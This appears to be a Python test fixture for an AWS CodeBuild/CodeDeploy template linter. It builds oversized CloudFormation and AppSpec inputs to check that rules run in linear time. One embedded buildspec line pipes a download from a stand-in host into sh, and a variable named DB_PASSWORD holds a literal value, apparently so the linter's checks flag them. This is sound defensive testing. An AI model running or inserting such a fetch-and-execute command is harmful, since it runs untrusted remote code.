"""Linear-time cases of CodeBuild projects and CodeDeploy AppSpecs, the AWS delivery packs, and
of the texts templates embed (tests/hostile/test_linear_time.py)."""

from __future__ import annotations

import json

from tests.hostile.linear_time_embedded_texts import EMBEDDED_TEXT_CASES

_PULL_REQUESTS = {"Type": "EVENT", "Pattern": "PULL_REQUEST_CREATED, PULL_REQUEST_UPDATED"}


def _actor(pattern: str) -> dict:
    return {"Type": "ACTOR_ACCOUNT_ID", "Pattern": pattern}


# A buildspec line CloudFormation writes around a value it cannot know here (Fn::If of two
# unknown parameters): each project's Join has 2**40 readings, of which a bounded few are parsed.
_UNKNOWN_LINE = {"Fn::If": ["C", {"Ref": "A"}, {"Ref": "B"}]}
_JOINED_BUILDSPEC = {
    "Fn::Join": [
        "\n",
        ["version: 0.2", "phases:", "  build:", "    commands:"]
        + [{"Fn::Join": ["", ["      - echo ", _UNKNOWN_LINE]]} for _ in range(40)]
        + ["      - echo " + "x" * 90_000, "      - curl -s https://x.example | sh"],
    ]
}


def on_conditions(choices: list[str], depth: int = 4) -> object:
    """A value on `depth` nested conditions (C0 ... C3 of CONDITIONS), each a choice."""
    value: object = choices[-1]
    for level in range(depth):
        value = {"Fn::If": [f"C{level}", choices[level % len(choices)], value]}
    return value


CONDITIONAL_NAMES = ["DB_PASSWORD", "API_TOKEN", "DB_SECRET", "AUTH_KEY"]
CONDITIONAL_VALUES = ["${A}", "${B}"]  # stand-ins: no secret in any deployment
CONDITIONS = {
    "Parameters": {f"P{level}": {"Type": "String"} for level in range(4)},
    "Conditions": {f"C{level}": {"Fn::Equals": [{"Ref": f"P{level}"}, "y"]} for level in range(4)},
}
# The real one: a deployment that names the variable DB_PASSWORD writes a literal.
LAST_CONDITIONAL_VARIABLE = {
    "Name": {"Fn::If": ["C0", "DB_USER", "DB_PASSWORD"]},
    "Value": "Wq7-rLp2-vX9e-Tn4k",
}

CODEBUILD_CASES = {
    # Variables whose Name, Type and Value branch on four conditions each: every variable is
    # read once per deployment of its own conditions (at most 16), not once per combination
    # of the project's.
    "codebuild-conditional-variables": (
        "template.json",
        json.dumps(
            {
                **CONDITIONS,
                "Resources": {
                    "Build": {
                        "Type": "AWS::CodeBuild::Project",
                        "Properties": {
                            "Environment": {
                                "Type": "LINUX_CONTAINER",
                                "Image": "aws/codebuild/standard:7.0",
                                "EnvironmentVariables": [
                                    {
                                        "Name": on_conditions(CONDITIONAL_NAMES),
                                        "Type": on_conditions(["PARAMETER_STORE", "PLAINTEXT"]),
                                        "Value": on_conditions(CONDITIONAL_VALUES),
                                    }
                                    for _ in range(2_000)
                                ]
                                + [LAST_CONDITIONAL_VARIABLE],
                            }
                        },
                    }
                },
            },
            indent=0,
        ),
        "CBD002",
    ),
    "codebuild-joined-buildspecs": (
        "template.json",
        json.dumps(
            {
                "Conditions": {"C": {"Fn::Equals": [{"Ref": "A"}, "a"]}},
                "Resources": {
                    f"Build{n}": {
                        "Type": "AWS::CodeBuild::Project",
                        "Properties": {
                            "Source": {"Type": "NO_SOURCE", "BuildSpec": _JOINED_BUILDSPEC}
                        },
                    }
                    for n in range(20)
                },
            },
            indent=0,
        ),
        "CBD004",
    ),
    # Each ACTOR_ACCOUNT_ID pattern names thousands of IDs: only its first few are tried, each
    # on a text of its own length, not every name against the whole pattern.
    "codebuild-actor-alternations": (
        "template.json",
        json.dumps(
            {
                "Resources": {
                    "Build": {
                        "Type": "AWS::CodeBuild::Project",
                        "Properties": {
                            "Triggers": {
                                "Webhook": True,
                                "FilterGroups": [
                                    [
                                        _PULL_REQUESTS,
                                        _actor("|".join(f"^{g:06d}{n:06d}$" for n in range(1_000))),
                                    ]
                                    for g in range(300)
                                ]
                                + [[_PULL_REQUESTS, _actor("^1234567|7654321$")]],
                            }
                        },
                    }
                }
            },
            indent=0,
        ),
        "CBD009",
    ),
    # Hook timeouts written as text are read as Ruby's `to_i` reads them: blanks before no
    # digit, digits joined by underscores, and more digits than int() takes, each read once.
    "appspec-text-timeouts": (
        "appspec.yml",
        "version: 0.0\nos: linux\nhooks:\n  AfterInstall:\n"
        + "".join(
            f"    - location: s.sh\n      timeout: '{text}'\n"
            for text in (" " * 99_000 + "x", "1_" * 49_000 + "x", "9" * 99_000, "-" + "0" * 99_000)
        ),
        "CDP005",
    ),
    **EMBEDDED_TEXT_CASES,
}
